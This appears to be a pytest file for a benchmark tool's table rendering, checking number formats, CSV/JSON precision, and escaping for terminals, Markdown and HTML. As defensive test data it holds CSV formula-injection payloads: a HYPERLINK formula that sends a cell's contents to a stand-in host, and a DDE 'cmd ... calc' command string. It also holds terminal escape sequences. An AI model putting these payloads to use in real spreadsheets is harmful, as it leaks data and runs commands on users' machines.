"""Tables as rows and columns: every output has the same values, and no name from outside acts on any of them."""

import csv
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from support.charts import report_page
from support.commands import text
from support.fake_run import noisy_times, step_rows, write_trial

from analysis.diagnose.finding import Finding, plain_rows
from analysis.load import load_run
from analysis.render.page import Section, Text, write_page
from analysis.render.result_tables import results_blocks
from analysis.render.tables import (
    Facts,
    Plain,
    Table,
    computed,
    finding_blocks,
    measured,
    of_frame,
    plain,
    sort_key,
    spread,
    texts,
    write_csv,
    write_frame,
)
from analysis.render.terminal import blocks_markdown, escaped, screen_of
from analysis.views import of_findings
from analysis.wording import FORMS, UNKNOWN, batch, inert, interval
from bench.sweep.script import plan_script
from records.run import RunDirectory

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


@pytest.mark.parametrize(
    ("form", "value", "expected"),
    [
        ("number", 0.01234, "0.0123"), ("number", 8.164, "8.16"), ("number", 181.7, "182"), ("number", 0, "0"),
        ("number", 18148.2, "18,148"), ("number", None, UNKNOWN), ("number", float("nan"), UNKNOWN),
        ("percent", 0.4537, "45.4 %"), ("percent", 1.81, "181 %"), ("signed", -0.0312, "-3.1 %"),
        ("size", 1536 * 2**20, "1.50 GiB"), ("size", 12, "12.0 B"), ("traffic", 67_108_864, "67.1 MB"),
        ("flops", 1.234e12, "1.23 TFLOP/s"),
        ("flops", 999.7e12, "1 PFLOP/s"), ("flops", 5e18, "5,000 PFLOP/s"), ("flops", 0, "0 FLOP/s"),
        ("count", 1234567.0, "1,234,567"), ("text", 0, "0"), ("text", "", UNKNOWN),
    ],
)  # fmt: skip
def test_how_numbers_are_written(form: str, value: object, expected: str) -> None:
    assert FORMS[form](value) == expected
    assert interval(27.88, 28.081) == "27.88\N{EN DASH}28.08" and interval(None, 3) == UNKNOWN


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_formula_gets_an_apostrophe_in_every_table(cell: str, tmp_path: Path) -> None:
    assert inert(cell) == f"'{cell}" and inert("\r=1") == "'\r=1"
    write_csv(tmp_path / "a.csv", [{"name": cell, cell: -1}])
    frame = pd.DataFrame({"name": [cell, None, "x"], "ns": [-1, 2, 3], cell: [0.5, -0.5, None]})
    write_frame(tmp_path / "b.csv", frame.astype({"name": "category"}))
    for name in ("a.csv", "b.csv"):
        with (tmp_path / name).open(newline="", encoding="utf-8") as file:
            rows = list(csv.reader(file))
        assert rows[0][-1] == rows[1][0] == f"'{cell}" and rows[1][1] == "-1"


@pytest.mark.parametrize("cell", ["-1", "+2.5e-3", "-inf", "void f<float>()", "a=b", "", -1.5, None, True])
def test_numbers_and_plain_names_stay(cell: object) -> None:
    assert inert(cell) is cell


def test_rows_of_a_csv_file_have_full_precision_and_unknown_values_as_none() -> None:
    columns = [plain("run", "name"), measured("step ms", "step_time_ms"), spread("step_time_ms"),
               computed("batch", batch)]  # fmt: skip
    row = {"name": "a", "step_time_ms": 1.23456789, "step_time_ms_low": 1.2, "step_time_ms_high": None,
           "micro_batch_size": 8, "grad_accum_steps": 2}  # fmt: skip
    table = Table("steps", columns, [row])
    assert table.csv_rows() == [row | {"batch": batch(row)}]
    assert texts("t", ["name", "ms"], [["a", UNKNOWN]]).csv_rows() == [{"name": "a", "ms": ""}]
    assert [sort_key(column, row) for column in columns] == ["a", 1.23456789, 1.2, batch(row)]


@pytest.mark.parametrize("sizes", [("8", "16"), ("8", "8")])
def test_scripts_of_one_name_are_distinguished_by_their_arguments(sizes: tuple[str, str], tmp_path: Path) -> None:
    folder = RunDirectory(tmp_path)
    for number, size in enumerate(sizes):
        command = ("python", "train.py", "--batch", size, "\x1b[31m<b>", "x" * 80)
        trial = plan_script(folder, command, "train.py")
        write_trial(folder, trial, {0: step_rows(noisy_times(10.0, 30, number), 8)})
    table = results_blocks([trial.row for trial in load_run(folder)])[0]
    assert isinstance(table, Table) and ("arguments" in table.headings) == (sizes[0] != sizes[1])
    if sizes[0] != sizes[1]:
        cells = [row[table.headings.index("arguments")] for row in table.texts()]
        assert {cell[:11].split()[1] for cell in cells} == {"8", "16"} and {len(cell) for cell in cells} == {60}
        assert "--batch 16" in text([table]) and "\x1b" not in text([table])
        assert "<b>" not in report_page(folder).read_text(encoding="utf-8")


def finding(rows: int = 3) -> Finding:
    frame = pd.DataFrame(
        {
            "name": [f"kernel {number}" for number in range(rows)],
            "calls": range(1000, 1000 + rows),
            "total_ms": [12.3456] * rows,
            "busbw_gb_s": [float("nan")] * rows,
            "share": [0.25] * rows,
            "bytes": pd.array([2048] * (rows - 1) + [pd.NA], dtype="Int64"),
        }
    )
    return Finding("top_kernels", "Kernels", frame, "Most of the time is spent here.")


def test_headings_have_units_and_values_their_form() -> None:
    table = of_frame("t", finding().table)
    assert table.headings == ["name", "calls", "total ms", "busbw GB/s", "share", "bytes"]
    assert table.texts()[0] == ["kernel 0", "1,000", "12.3", UNKNOWN, "25.0 %", "2.05 kB"]
    assert table.texts()[2][5] == UNKNOWN, "an unknown number is no 0"
    assert [column.value is not None for column in table.columns] == [False, True, True, False, True, True]


def test_json_has_full_precision_and_null_for_unknown() -> None:
    shown = json.loads(json.dumps(of_findings([finding()], ["lost"], path="x").document, allow_nan=False))
    row = {"name": "kernel 2", "calls": 1002, "total_ms": 12.3456, "busbw_gb_s": None, "share": 0.25, "bytes": None}
    assert shown["findings"]["top_kernels"]["rows"][2] == row
    assert shown["problems"] == ["lost"] and shown["path"] == "x"
    frame = pd.DataFrame({"a": pd.Categorical(["x"]), "b": [[1, 2]], "c": [float("inf")]})
    assert plain_rows(frame) == [{"a": "x", "b": [1, 2], "c": None}]


def test_a_hostile_name_cannot_act_on_a_terminal() -> None:
    frame = pd.DataFrame({"name": ["\x1b[2J[bold]x[/bold]", "a\nb"], "calls": [1, 2]})
    shown = text(finding_blocks([Finding("x", "T\x1b", frame, "S\x07.")]))
    assert "\x1b" not in shown and "\x07" not in shown and "[bold]x[/bold]" in shown and "a b" in shown


def test_a_narrow_terminal_keeps_numbers_whole_and_names_the_columns_that_it_leaves_out() -> None:
    table = texts("t", ["name", "a very long heading", "ms"], [["x" * 30, "1,234,567", "8.16"]], "Title")
    lines = text([table], 34).splitlines()
    assert (
        lines[0].strip() == "Title"
        and "1,234,567" in text([table], 34)
        and all(len(line) <= 34 or "left out" in line for line in lines)
    )
    assert lines[-1].endswith("ms") and "8.16" not in text([table], 34) and "8.16" in text([table], 80)


def test_markdown_keeps_columns_and_shows_texts_as_they_are() -> None:
    table = texts("t", ["name", "ms"], [["a|b", "1.5"], ["<img src=x>\n# c", "2"]])
    heading, rule, *rows = blocks_markdown([table]).splitlines()
    assert heading == "| name | ms |" and rule == "| --- | ---: |"
    assert rows == ["| a\\|b | 1.5 |", "| \\<img src=x\\> \\# c | 2 |"]
    shown = blocks_markdown(["a *b* [c](d)", Facts([("run_1", "x")], "T"), Plain("bertbench a_b\n<c>")])
    assert shown == "a \\*b\\* \\[c\\](d)\n\n**T**\n\n- run\\_1: x\n\n    bertbench a_b\n    <c>\n"
    assert re.sub(r"\\(.)", r"\1", escaped("\\`*_{}[]<>|~#&$! a\tb")) == "\\`*_{}[]<>|~#&$! a b"


def test_a_page_escapes_its_words_and_sets_commands_apart(tmp_path: Path) -> None:
    run = "run `bertbench doctor --has nsys` on <3> ranks for 21.4 %"
    blocks = [Text("<b>1 & 2", "badge caution"), Section("Do <i>this", [run], "first")]
    path, *others = write_page(tmp_path, "p", "e", [Section("s", blocks)])
    page = path.read_text(encoding="utf-8")
    assert not others and '<p class="badge caution">&lt;b&gt;1 &amp; 2</p>' in page
    first = page[page.index('class="first"') :]
    command = '<code>bertbench doctor <span class="option">--has</span> nsys</code> on &lt;3&gt; ranks'
    assert "Do &lt;i&gt;this" in first and f"{command} for 21.4\N{NO-BREAK SPACE}%" in first


def test_of_many_ranks_the_first_the_slowest_and_the_fastest_are_shown() -> None:
    frame = pd.DataFrame({"rank": range(8), "step_ms": [5.0, 4.0, 9.0, 6.0, 7.0, 3.0, 8.0, 5.5], "never": None})
    ranks = screen_of([Finding("by_rank", "Ranks", frame)]).ranks
    assert ranks is not None and [(row[""], row["rank"]) for row in ranks.rows] == [
        ("first", 0), ("slowest", 2), ("fastest", 5)
    ]  # fmt: skip
    (table,) = screen_of([Finding("by_rank", "Ranks", frame.head(7))]).blocks(80)
    assert isinstance(table, Table) and table.headings == ["rank", "step ms"] and len(table.rows) == 7
